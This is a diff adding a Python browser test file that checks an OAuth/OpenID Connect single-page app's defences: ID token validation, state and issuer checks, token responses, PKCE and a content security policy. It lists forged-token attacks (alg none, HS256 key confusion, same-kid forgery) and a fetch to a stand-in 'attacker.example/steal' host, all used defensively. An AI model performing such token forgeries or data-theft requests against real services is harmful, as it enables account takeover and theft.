@@ -1,0 +1,259 @@
+"""Each check the SPA's JavaScript makes, run in Chromium on the SPA's own origin.
+
+The flows in test_spa_flows.py only meet a well-behaved issuer. Here the page's modules are
+imported as they are served and given what a broken or hostile issuer could send: ID tokens
+signed with the wrong key or algorithm or carrying the wrong claims (real RSA signatures),
+authorization responses with the wrong `state` or `iss`, unusable token responses. Each row
+fails if its check is removed from the page.
+"""
+
+import hashlib
+import time
+
+import pytest
+
+from tests.support.keys import b64url, compact
+
+ISSUER = "https://tenant.example/"
+CLIENT_ID = "spa-demo"
+NONCE = "n-0S6_WzA2Mj"
+ACCESS_TOKEN = "eyJhbGciOiJSUzI1NiJ9.an-access-token.signature"
+
+VALIDATE_ID_TOKEN = """async ({ token, jwks, jwksUri, accessToken }) => {
+  const { validateIdToken } = await import("/static/id_token.js");
+  const { KeySet } = await import("/static/jwt.js");
+  const keySet = new KeySet(jwksUri);
+  keySet.keys = jwks;
+  const options = { issuer: "%s", clientId: "%s", nonce: "%s", keySet, accessToken: accessToken ?? undefined };
+  try {
+    return { claims: await validateIdToken(token, options) };
+  } catch (error) {
+    return { code: error.code, description: error.description };
+  }
+}""" % (ISSUER, CLIENT_ID, NONCE)
+
+CHECK_AUTHORIZATION_RESPONSE = """async ({ response, pending, issSupported }) => {
+  const { checkAuthorizationResponse } = await import("/static/authorization.js");
+  const settings = { issuer: "%s", metadata: { authorization_response_iss_parameter_supported: issSupported } };
+  try {
+    checkAuthorizationResponse(new URLSearchParams(response), pending, settings);
+    return { accepted: true };
+  } catch (error) {
+    return { code: error.code };
+  }
+}""" % ISSUER
+
+CHECK_TOKEN_RESPONSE = """async (body) => {
+  const { checkTokenResponse } = await import("/static/tokens.js");
+  try {
+    return { tokens: checkTokenResponse(body) };
+  } catch (error) {
+    return { code: error.code };
+  }
+}"""
+
+
+def s256(verifier):
+    return b64url(hashlib.sha256(verifier.encode("ascii")).digest())
+
+
+def at_hash(access_token):
+    return b64url(hashlib.sha256(access_token.encode("ascii")).digest()[:16])
+
+
+@pytest.fixture(scope="module")
+def spa_page(browser, stack):
+    """A page on the SPA's origin, so its CSP applies and its modules import as served.
+
+    The checks are functions without state, so one page serves the whole module."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{stack.spa_url}/")
+    page.wait_for_selector("body[data-ready=true]")
+    yield page
+    context.close()
+
+
+def id_token_claims(**changes):
+    now = int(time.time())
+    claims = {
+        "iss": ISSUER,
+        "sub": "auth0|985069d6114091e736f16d6d",
+        "aud": CLIENT_ID,
+        "iat": now,
+        "exp": now + 36000,
+        "nonce": NONCE,
+        "at_hash": at_hash(ACCESS_TOKEN),
+        "email": "alice@flowlab.test",
+    }
+    claims.update(changes)
+    return {name: value for name, value in claims.items() if value is not None}
+
+
+ID_TOKEN_ATTACKS = {
+    # name: (how the token is made: header changes, claim changes, signing key name, alg), refusal
+    "signed by another key under our kid": ({}, {}, "attacker_same_kid", "RS256", "signature does not verify"),
+    "HS256 with the public key as the secret": ({"alg": "HS256"}, {}, "public_pem", "HS256", "only RS256"),
+    "alg none": ({"alg": "none"}, {}, None, "none", "only RS256"),
+    "a kid the issuer never published": ({"kid": "unknown-kid"}, {}, "issuer", "RS256", "No signing key"),
+    "another issuer": ({}, {"iss": "https://attacker.example/"}, "issuer", "RS256", "iss is"),
+    "another audience": ({}, {"aud": "another-app"}, "issuer", "RS256", "does not contain our client id"),
+    "authorized party is another client": ({}, {"aud": [CLIENT_ID, "another-app"], "azp": "another-app"}, "issuer", "RS256", "azp"),
+    "expired": ({}, {"exp": int(time.time()) - 120}, "issuer", "RS256", "expired"),
+    "exp as a string": ({}, {"exp": str(int(time.time()) + 3600)}, "issuer", "RS256", "expired"),
+    "no exp": ({}, {"exp": None}, "issuer", "RS256", "expired"),
+    "issued in the future": ({}, {"iat": int(time.time()) + 600}, "issuer", "RS256", "future"),
+    "another nonce (replay)": ({}, {"nonce": "a-nonce-from-another-login"}, "issuer", "RS256", "nonce"),
+    "no nonce": ({}, {"nonce": None}, "issuer", "RS256", "nonce"),
+    "at_hash of another access token": ({}, {"at_hash": at_hash("another-access-token")}, "issuer", "RS256", "at_hash"),
+    "no at_hash beside an access token": ({}, {"at_hash": None}, "issuer", "RS256", "at_hash"),
+}
+
+
+@pytest.fixture
+def sign_id_token(rsa_key, second_rsa_key):
+    keys = {"issuer": rsa_key, "attacker_same_kid": second_rsa_key.with_kid(rsa_key.kid), "public_pem": rsa_key.public_pem, None: None}
+
+    def sign(header_changes, claim_changes, key_name, alg):
+        header = {"typ": "JWT", "alg": "RS256", "kid": rsa_key.kid} | header_changes
+        return compact(header, id_token_claims(**claim_changes), keys[key_name], alg)
+
+    return sign
+
+
+def validate(page, stack, rsa_key, token, access_token):
+    return page.evaluate(
+        VALIDATE_ID_TOKEN,
+        {"token": token, "jwks": [rsa_key.jwk], "jwksUri": f"{stack.issuer}.well-known/jwks.json", "accessToken": access_token},
+    )
+
+
+@pytest.mark.parametrize("access_token", [ACCESS_TOKEN, None], ids=["implicit", "code"])
+def test_a_valid_id_token_is_accepted(spa_page, stack, rsa_key, sign_id_token, access_token):
+    result = validate(spa_page, stack, rsa_key, sign_id_token({}, {}, "issuer", "RS256"), access_token)
+    assert result.get("claims", {}).get("email") == "alice@flowlab.test", result
+
+
+@pytest.mark.parametrize("attack", ID_TOKEN_ATTACKS.values(), ids=ID_TOKEN_ATTACKS.keys())
+def test_a_bad_id_token_is_refused(spa_page, stack, rsa_key, sign_id_token, attack):
+    *how, refusal = attack
+    result = validate(spa_page, stack, rsa_key, sign_id_token(*how), ACCESS_TOKEN)
+    assert "claims" not in result
+    assert result["code"] in ("invalid_id_token", "invalid_token")
+    assert refusal in result["description"]
+
+
+PENDING = {"flow": "code", "state": "the-state-we-sent", "nonce": NONCE}
+AUTHORIZATION_RESPONSES = {
+    # name: (response parameters, pending request, issuer announces RFC 9207), outcome
+    "the expected response": ({"code": "c", "state": "the-state-we-sent", "iss": ISSUER}, PENDING, True, None),
+    "another state": ({"code": "c", "state": "forged", "iss": ISSUER}, PENDING, True, "state_mismatch"),
+    "no state": ({"code": "c", "iss": ISSUER}, PENDING, True, "state_mismatch"),
+    "nothing was asked for": ({"code": "c", "state": "the-state-we-sent", "iss": ISSUER}, None, True, "no_pending_request"),
+    "another issuer (mix-up)": ({"code": "c", "state": "the-state-we-sent", "iss": "https://attacker.example/"}, PENDING, True, "issuer_mismatch"),
+    "no iss from an issuer announcing it": ({"code": "c", "state": "the-state-we-sent"}, PENDING, True, "issuer_mismatch"),
+    "no iss from an issuer without RFC 9207": ({"code": "c", "state": "the-state-we-sent"}, PENDING, False, None),
+    "an error response": ({"error": "access_denied", "state": "the-state-we-sent", "iss": ISSUER}, PENDING, True, "access_denied"),
+    "an error response with a forged state": ({"error": "login_required", "state": "forged", "iss": ISSUER}, PENDING, True, "state_mismatch"),
+}
+
+
+@pytest.mark.parametrize("case", AUTHORIZATION_RESPONSES.values(), ids=AUTHORIZATION_RESPONSES.keys())
+def test_authorization_response_checks(spa_page, case):
+    response, pending, iss_supported, refusal = case
+    result = spa_page.evaluate(CHECK_AUTHORIZATION_RESPONSE, {"response": response, "pending": pending, "issSupported": iss_supported})
+    assert result == ({"accepted": True} if refusal is None else {"code": refusal})
+
+
+GOOD_TOKEN_RESPONSE = {"access_token": ACCESS_TOKEN, "id_token": "id.token.value", "token_type": "Bearer", "expires_in": 7200}
+TOKEN_RESPONSES = {
+    "another token type": {"token_type": "DPoP"},
+    "no token type": {"token_type": None},
+    "no expiry": {"expires_in": None},
+    "a zero expiry": {"expires_in": 0},
+    "an expiry that is not a number": {"expires_in": "soon"},
+    "no ID token": {"id_token": None},
+    "no access token": {"access_token": None},
+}
+
+
+def test_a_usable_token_response_is_accepted(spa_page):
+    result = spa_page.evaluate(CHECK_TOKEN_RESPONSE, GOOD_TOKEN_RESPONSE | {"expires_in": "7200"})
+    assert result == {"tokens": {"accessToken": ACCESS_TOKEN, "idToken": "id.token.value", "expiresIn": 7200}}
+
+
+@pytest.mark.parametrize("changes", TOKEN_RESPONSES.values(), ids=TOKEN_RESPONSES.keys())
+def test_an_unusable_token_response_is_refused(spa_page, changes):
+    body = {name: value for name, value in (GOOD_TOKEN_RESPONSE | changes).items() if value is not None}
+    assert spa_page.evaluate(CHECK_TOKEN_RESPONSE, body) == {"code": "invalid_response"}
+
+
+def test_pkce_challenge_is_the_s256_of_a_fresh_43_character_verifier(spa_page):
+    requests = spa_page.evaluate(
+        """async () => {
+          const { codePkce } = await import("/static/code_pkce.js");
+          return [await codePkce.prepare(), await codePkce.prepare()];
+        }"""
+    )
+    for request in requests:
+        verifier = request["pending"]["codeVerifier"]
+        assert len(verifier) == 43 and set(verifier) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
+        assert request["params"]["code_challenge_method"] == "S256"
+        assert request["params"]["code_challenge"] == s256(verifier)
+        assert verifier not in str(request["params"])
+    first, second = (request["pending"] for request in requests)
+    assert first["codeVerifier"] != second["codeVerifier"] and first["state"] != second["state"] and first["nonce"] != second["nonce"]
+
+
+def test_pkce_matches_the_rfc_7636_example(spa_page):
+    # RFC 7636 Appendix B.
+    verifier = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
+    challenge = spa_page.evaluate(
+        """async (verifier) => (await import("/static/code_pkce.js")).codeChallenge(verifier)""", verifier
+    )
+    assert challenge == "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
+
+
+LOGOUT_URL = """async (metadata) => {
+  const { logoutUrl } = await import("/static/logout.js");
+  const settings = { issuer: "%s", clientId: "%s", returnTo: "http://localhost:3000/", metadata };
+  return logoutUrl(settings, "the.id.token");
+}""" % (ISSUER, CLIENT_ID)
+
+
+@pytest.mark.parametrize(
+    ("metadata", "expected"),
+    [
+        ({}, f"{ISSUER}v2/logout?client_id={CLIENT_ID}&returnTo=http%3A%2F%2Flocalhost%3A3000%2F"),
+        (
+            {"end_session_endpoint": f"{ISSUER}oidc/logout"},
+            f"{ISSUER}oidc/logout?client_id={CLIENT_ID}&post_logout_redirect_uri=http%3A%2F%2Flocalhost%3A3000%2F&id_token_hint=the.id.token",
+        ),
+    ],
+    ids=["auth0 v2 logout", "rp-initiated logout from discovery"],
+)
+def test_logout_goes_to_the_issuers_logout_endpoint(spa_page, metadata, expected):
+    assert spa_page.evaluate(LOGOUT_URL, metadata) == expected
+
+
+def test_the_browser_blocks_html_injection_and_requests_to_other_origins(spa_page):
+    outcome = spa_page.evaluate(
+        """async () => {
+          const violations = [];
+          document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
+          const attempt = async (action) => {
+            try { await action(); return "done"; } catch (error) { return error.name; }
+          };
+          const outcome = {
+            handler: await attempt(() => document.body.setAttribute("onclick", "window.injected = true")),
+            html: await attempt(() => document.body.insertAdjacentHTML("beforeend", "<img src=x>")),
+            fetched: await attempt(() => fetch("https://attacker.example/steal")),
+          };
+          await new Promise((resolve) => setTimeout(resolve, 100));
+          document.body.click();
+          return { ...outcome, injected: window.injected === true, violations };
+        }"""
+    )
+    assert outcome["injected"] is False
+    assert {key: outcome[key] for key in ("handler", "html", "fetched")} == {"handler": "TypeError", "html": "TypeError", "fetched": "TypeError"}
+    assert {"require-trusted-types-for", "connect-src"} <= set(outcome["violations"])
